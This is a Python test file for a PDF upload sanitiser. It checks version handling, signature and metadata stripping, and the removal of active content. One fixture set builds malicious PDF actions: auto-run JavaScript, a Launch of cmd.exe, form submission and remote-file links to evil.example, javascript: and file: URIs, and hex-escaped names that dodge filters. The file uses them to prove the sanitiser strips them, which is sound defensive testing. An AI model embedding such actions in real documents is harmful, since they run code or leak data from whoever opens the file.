"""Upload cases G1, G10 and G16 for PDFs: what is taken, what is taken out, what stays."""

from __future__ import annotations

import hashlib
import io

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, String
from PIL import Image

from gnlc_apply.storage.media_types import MediaType
from tests.storage import corpus
from tests.storage.looking import Look, clean_bytes, unpacked

pytestmark = pytest.mark.proof


@pytest.mark.parametrize("version", [b"1.0", b"1.4", b"1.5", b"1.6", b"1.7", b"2.0"])
def test_g1_pdfs_of_every_version(look: Look, version: bytes) -> None:
    content = corpus.simple_pdf(version)
    found = look(content, "Plan de la ville.PDF")
    assert (found.media_type, found.pages) == (MediaType.PDF, 1)
    assert found.sha256_original == hashlib.sha256(content).hexdigest()
    assert b"0 0 100 100 re f" in clean_bytes(found)


def test_g1_pdfs_as_programs_write_them(look: Look) -> None:
    packed = corpus.built_pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate, linearize=True)
    assert b"/ObjStm" in packed
    assert b"0 0 100 100 re f" in unpacked(look(packed, "a.pdf"))


def test_g1_an_archival_pdf_keeps_its_colours(look: Look) -> None:
    def archival(pdf: Pdf) -> None:
        intent = Dictionary(Type=Name.OutputIntent, S=Name.GTS_PDFA1, OutputConditionIdentifier=String("sRGB"))
        intent.DestOutputProfile = pdf.make_stream(b"profile", N=3)
        pdf.Root.OutputIntents = Array([pdf.make_indirect(intent)])
        pdf.Root.Metadata = pdf.make_stream(b"<x:xmpmeta>XMPCANARY pdfaid:part</x:xmpmeta>")

    text = unpacked(look(corpus.built_pdf(archival), "a.pdf"))
    assert b"GTS_PDFA1" in text
    assert b"XMPCANARY" not in text


def test_g1_a_signed_pdf_is_taken_and_the_copy_claims_no_signature(look: Look) -> None:
    def signed(pdf: Pdf) -> None:
        value = Dictionary(
            Type=Name.Sig,
            Filter=Name("/Adobe.PPKLite"),
            ByteRange=[0, 1, 2, 3],
            Contents=b"\0" * 64,
            Name="SIGNERCANARY",
        )
        field = pdf.make_indirect(
            Dictionary(
                Type=Name.Annot, Subtype=Name.Widget, FT=Name.Sig, T="s", V=pdf.make_indirect(value), Rect=[0, 0, 9, 9]
            )
        )
        pdf.Root.AcroForm = Dictionary(Fields=[field], SigFlags=3)
        pdf.Root.Perms = Dictionary(DocMDP=field.V)
        pdf.pages[0].Annots = Array([field])

    content = corpus.built_pdf(signed)
    assert b"SIGNERCANARY" in content
    found = look(content, "signed.pdf")
    assert found.sha256_original == hashlib.sha256(content).hexdigest()
    text = unpacked(found)
    assert b"/ByteRange" not in text
    assert b"SIGNERCANARY" not in text
    assert b"/FT /Sig" in text


def test_g1_what_a_page_inherits_stays(look: Look) -> None:
    tree = (
        b"<</Type/Pages/Kids[3 0 R]/Count 1/MediaBox[0 0 77 77]/Resources<</Font<</F1<</Type/Font/BaseFont/Kept>>>>>>>>"
    )
    page = b"<</Type/Page/Parent 2 0 R/Contents 4 0 R>>"
    content = clean_bytes(look(corpus.raw_pdf([corpus.CATALOG, tree, page, corpus.stream(b"")]), "a.pdf"))
    with pikepdf.open(io.BytesIO(content)) as pdf:
        assert list(pdf.pages[0].mediabox) == [0, 0, 77, 77]
        assert pdf.pages[0].resources.Font.F1.BaseFont == Name.Kept


# G10: what acts is taken out, ordinary links stay

ACTING: dict[str, bytes] = {
    "open action": corpus.with_root(OpenAction=corpus.javascript()),
    "named script": corpus.with_root(
        Names=Dictionary(JavaScript=Dictionary(Names=[String("a"), corpus.javascript()])),
    ),
    "document additional actions": corpus.with_root(AA=Dictionary(WC=corpus.javascript())),
    "link with script": corpus.with_annotation(corpus.link(corpus.javascript())),
    "script after a link": corpus.with_annotation(
        corpus.link(Dictionary(S=Name.URI, URI=String("https://example.org"), Next=Array([corpus.javascript()])))
    ),
    "annotation additional actions": corpus.with_annotation(
        Dictionary(Subtype=Name.Widget, FT=Name.Tx, T="f", AA=Dictionary(K=corpus.javascript()))
    ),
    "script in a stream": corpus.with_root(
        OpenAction=lambda pdf: Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"app.alert(1)"))
    ),
    "script beside a rendition": corpus.with_annotation(
        corpus.link(Dictionary(S=Name.Rendition, JS=String("app.alert(1)")))
    ),
    "launch": corpus.with_annotation(
        corpus.link(Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F="cmd.exe")))
    ),
    "submit": corpus.with_annotation(
        corpus.link(Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F="https://evil.example/")))
    ),
    "import": corpus.with_annotation(corpus.link(Dictionary(S=Name.ImportData, F=String("evil.example")))),
    "remote file": corpus.with_annotation(
        corpus.link(Dictionary(S=Name.GoToR, F=String("\\\\evil.example\\s"), D=[0]))
    ),
    "script address": corpus.with_annotation(corpus.link(corpus.uri("javascript:app.alert(1)"))),
    "file address": corpus.with_annotation(corpus.link(corpus.uri("file:////evil.example/s"))),
    "hidden behind a typeface": corpus.with_root(
        Font=Dictionary(AA=Dictionary(WC=corpus.javascript(), Type=Name.Font)),
    ),
    "bookmark": corpus.with_root(
        Outlines=lambda pdf: Dictionary(First=pdf.make_indirect(Dictionary(Title="x", A=corpus.javascript()))),
    ),
    "escaped name": corpus.raw_pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R/Open#41ction<</#53/Java#53cript/#4aS(app.alert\\0501\\051)>>>>",
            corpus.PAGES,
            corpus.PAGE,
            corpus.stream(b""),
        ]
    ),
    "stream in another file": corpus.raw_pdf(
        [corpus.CATALOG, corpus.PAGES, corpus.PAGE, corpus.stream(b"", b"/F(\\\\\\\\evil.example\\\\s)")]
    ),
}


@pytest.mark.parametrize("case", list(ACTING))
def test_g10_what_acts_is_taken_out(look: Look, case: str) -> None:
    before = corpus.unpacked(ACTING[case])
    traces = [b"app.alert", b"cmd.exe", b"evil.example"]
    assert any(trace in before for trace in traces)
    after = unpacked(look(ACTING[case], "a.pdf"))
    for trace in [
        *traces,
        b"/JavaScript",
        b"/JS",
        b"/Launch",
        b"/SubmitForm",
        b"/ImportData",
        b"/GoToR",
        b"/OpenAction",
    ]:
        assert trace not in after


def test_g10_ordinary_links_and_jumps_stay(look: Look) -> None:
    kept = ["https://example.org/a?b=c", "http://example.org", "mailto:city@example.org", "HTTPS://EXAMPLE.ORG"]

    def jump(pdf: Pdf) -> Dictionary:
        return Dictionary(First=pdf.make_indirect(Dictionary(Title="Chapter", A=Dictionary(S=Name.GoTo, D=["/XYZ"]))))

    text = unpacked(look(corpus.with_annotation(*[corpus.link(corpus.uri(address)) for address in kept]), "a.pdf"))
    assert [address for address in kept if address.encode() not in text] == []
    text = unpacked(look(corpus.with_root(Outlines=jump), "a.pdf"))
    assert b"/GoTo" in text
    assert b"Chapter" in text


def test_g10_filled_forms_structure_and_typefaces_with_odd_names_stay(look: Look) -> None:
    def odd(pdf: Pdf) -> None:
        field = pdf.make_indirect(
            Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T="f", V=String("FILLED"), Rect=[0, 0, 9, 9])
        )
        pdf.pages[0].Annots = Array([field])
        pdf.Root.AcroForm = Dictionary(Fields=[field])
        pdf.pages[0].Resources = Dictionary(Font=Dictionary(AA=Dictionary(Type=Name.Font, BaseFont=Name.Kept)))
        pdf.Root.StructTreeRoot = Dictionary(
            K=[Dictionary(Type=Name.StructElem, S=Name.H1, A=Dictionary(O=Name.Layout))]
        )

    text = unpacked(look(corpus.built_pdf(odd), "a.pdf"))
    for kept in (b"(FILLED)", b"/BaseFont /Kept", b"/S /H1", b"/O /Layout"):
        assert kept in text


def test_g16_pdfs_lose_their_notes(look: Look) -> None:
    def noted(pdf: Pdf) -> None:
        pdf.docinfo["/Author"] = "AUTHORCANARY"
        pdf.trailer["/Secret"] = String("TRAILERCANARY")
        pdf.Root.Metadata = pdf.make_stream(b"<x:xmpmeta>XMPCANARY</x:xmpmeta>")
        pdf.pages[0].PieceInfo = Dictionary(App=Dictionary(Private="PIECECANARY"))
        pdf.pages[0].Thumb = pdf.make_stream(b"THUMBCANARY")
        photo = pdf.make_stream(corpus.full_of_notes_jpeg(), Type=Name.XObject, Subtype=Name.Image, Width=80, Height=40)
        photo.Filter = Name.DCTDecode
        photo.Metadata = pdf.make_stream(b"PHOTOCANARY")
        pdf.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=photo))

    content = corpus.built_pdf(noted, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)
    for canary in (b"AUTHORCANARY", b"TRAILERCANARY", b"XMPCANARY", b"PIECECANARY", b"THUMBCANARY", b"GPSCANARY"):
        assert canary in content
    text = unpacked(look(content, "a.pdf"))
    assert b"CANARY" not in text
    assert b"/Info" not in text
    with pikepdf.open(io.BytesIO(text)) as pdf:
        raw = pdf.pages[0].Resources.XObject.Im0.read_raw_bytes()
    with Image.open(io.BytesIO(raw)) as photo:
        assert photo.size == (80, 40)
